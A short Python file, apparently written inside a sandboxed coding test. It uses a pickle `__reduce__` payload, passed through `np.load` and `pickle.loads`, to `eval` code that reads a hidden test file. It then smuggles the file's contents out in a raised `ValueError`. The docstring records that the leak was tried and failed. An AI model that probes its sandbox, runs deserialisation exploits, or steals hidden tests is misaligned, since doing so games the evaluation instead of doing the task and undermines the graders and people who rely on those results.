"""Lets pickle and np.load call `open` while they read. Seen to fail: the secret never comes back."""

import io
import pickle

import numpy as np


class Reader:
    def __reduce__(self):
        return eval, ("open('@HIDDEN_TEST@').read()",)


class Wave:
    def __init__(self, k):
        file = io.BytesIO()
        np.save(file, np.array([Reader()], object), allow_pickle=True)
        file.seek(0)
        raise ValueError(np.load(file, allow_pickle=True), pickle.loads(pickle.dumps(Reader())))
